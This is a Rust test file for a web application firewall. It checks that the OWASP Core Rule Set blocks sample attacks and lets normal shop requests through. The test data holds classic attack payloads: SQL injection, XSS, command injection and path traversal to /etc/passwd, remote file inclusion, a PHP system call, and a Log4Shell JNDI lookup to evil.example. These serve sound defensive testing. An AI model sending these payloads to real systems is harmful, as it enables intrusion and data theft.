//! CRS v4.28.0 (`shared/crs/v4.28.0`, data beside the repository, never in it) on the same
//! engine: it loads, blocks a hand-written attack of every family at paranoia level 1 in
//! blocking mode, and passes benign requests. Required when `CI=true`; elsewhere a missing
//! CRS v4 is reported loudly and the test passes.

use portcullis_waf::engine::{Request, Ruleset};
use portcullis_waf::seclang::{self, FsSource};
use std::path::Path;

/// Extra request headers of a case.
type Headers<'a> = &'a [(&'a str, &'a str)];
/// (name, family = rule id / 1000, method, uri, headers, body).
type Attack<'a> = (&'a str, u64, &'a str, &'a str, Headers<'a>, &'a [u8]);

fn ruleset(dir: &Path) -> Ruleset {
    let text = format!(
        "SecRuleEngine On\n{}\nInclude {}/crs-setup.conf.example\nInclude {}/rules/*.conf\n",
        portcullis_waf::crs::RECOMMENDED,
        dir.display(),
        dir.display()
    );
    let directives =
        seclang::parse(&text, "crs4-main.conf", &FsSource).unwrap_or_else(|e| panic!("{e}"));
    let rs = Ruleset::compile(directives, &FsSource).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(rs.report().crs_version(), Some("4.28.0"));
    assert!(rs.report().rule_count > 600, "{}", rs.report().rule_count);
    rs
}

fn request(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
    let mut h: Vec<(Vec<u8>, Vec<u8>)> = vec![
        (b"Host".to_vec(), b"shop.example.com".to_vec()),
        (
            b"User-Agent".to_vec(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_vec(),
        ),
        (
            b"Accept".to_vec(),
            b"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8".to_vec(),
        ),
    ];
    for (k, v) in headers {
        h.retain(|(n, _)| !n.eq_ignore_ascii_case(k.as_bytes()));
        h.push((k.as_bytes().to_vec(), v.as_bytes().to_vec()));
    }
    if !body.is_empty() {
        h.push((
            b"Content-Length".to_vec(),
            body.len().to_string().into_bytes(),
        ));
    }
    Request {
        method: method.into(),
        uri: uri.as_bytes().to_vec(),
        protocol: "HTTP/1.1".into(),
        headers: h,
        remote_addr: "203.0.113.9".into(),
        remote_port: 40000,
        server_addr: "10.0.0.1".into(),
        server_port: 443,
        unique_id: "test".into(),
    }
}

/// (blocking rule, every matched rule id) for one request.
fn run(rs: &Ruleset, req: Request, body: &[u8]) -> (Option<u64>, Vec<u64>) {
    let mut tx = rs.transaction(req);
    let mut blocked = tx.process_request_headers().map(|i| i.rule_id);
    if blocked.is_none() {
        tx.append_request_body(body);
        blocked = tx.process_request_body().map(|i| i.rule_id);
    }
    tx.process_logging();
    let ids = tx.matched_rules().iter().map(|m| m.id).collect();
    (blocked, ids)
}

#[test]
fn crs_v4_28_0_blocks_every_attack_family_and_passes_benign_requests() {
    let Some(dir) = portcullis_shared_data::CRS_V4_28_0.for_test() else {
        return;
    };
    let rs = ruleset(&dir);
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let json = [("Content-Type", "application/json")];
    // (name, family = rule id / 1000, method, uri, headers, body)
    let attacks: Vec<Attack> = vec![
        (
            "sqli in the query",
            942,
            "GET",
            "/search?id=1%27%20OR%20%271%27%3D%271",
            &[],
            b"",
        ),
        (
            "xss in a form",
            941,
            "POST",
            "/comment",
            &form,
            b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        (
            "rce in the query",
            932,
            "GET",
            "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd",
            &[],
            b"",
        ),
        (
            "lfi in the query",
            930,
            "GET",
            "/view?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            &[],
            b"",
        ),
        (
            "rfi in the query",
            931,
            "GET",
            "/load?url=http%3A%2F%2F192.168.10.1%2Fshell.txt",
            &[],
            b"",
        ),
        (
            "php in a form",
            933,
            "POST",
            "/cms",
            &form,
            b"code=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
        ),
        (
            "log4shell in a header",
            944,
            "GET",
            "/",
            &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
            b"",
        ),
        (
            "nodejs in json",
            934,
            "POST",
            "/api",
            &json,
            br#"{"x":"require('child_process').exec('id')"}"#,
        ),
        (
            "session fixation",
            943,
            "GET",
            "/?x=%3Cscript%3Edocument.cookie%3D%22sid%3D1%3Bdomain%3Devil.example%22",
            &[],
            b"",
        ),
        (
            "scanner user agent",
            913,
            "GET",
            "/",
            &[("User-Agent", "Nikto/2.5.0")],
            b"",
        ),
    ];
    let mut failures = Vec::new();
    for (name, family, method, uri, headers, body) in &attacks {
        let (blocked, ids) = run(&rs, request(method, uri, headers, body), body);
        let detected = ids.iter().any(|id| id / 1000 == *family);
        if blocked != Some(949110) || !detected {
            failures.push(format!("{name}: blocked by {blocked:?}, matched {ids:?} (want 949110 after a {family}xxx rule)"));
        }
    }
    let benign: Vec<(&str, &str, &str, Headers, &[u8])> = vec![
        (
            "browse",
            "GET",
            "/products?page=2&sort=price&q=blue+shoes",
            &[("Cookie", "session=abc123; theme=dark")],
            b"",
        ),
        (
            "form",
            "POST",
            "/contact",
            &form,
            b"name=Jane+Doe&email=jane%40example.com&msg=Hello%2C+can+you+help%3F",
        ),
        (
            "json",
            "POST",
            "/api/orders",
            &json,
            br#"{"items":[{"id":1,"qty":2}],"note":"leave at the door"}"#,
        ),
    ];
    for (name, method, uri, headers, body) in &benign {
        let (blocked, ids) = run(&rs, request(method, uri, headers, body), body);
        if blocked.is_some() {
            failures.push(format!(
                "benign {name}: blocked by {blocked:?}, matched {ids:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
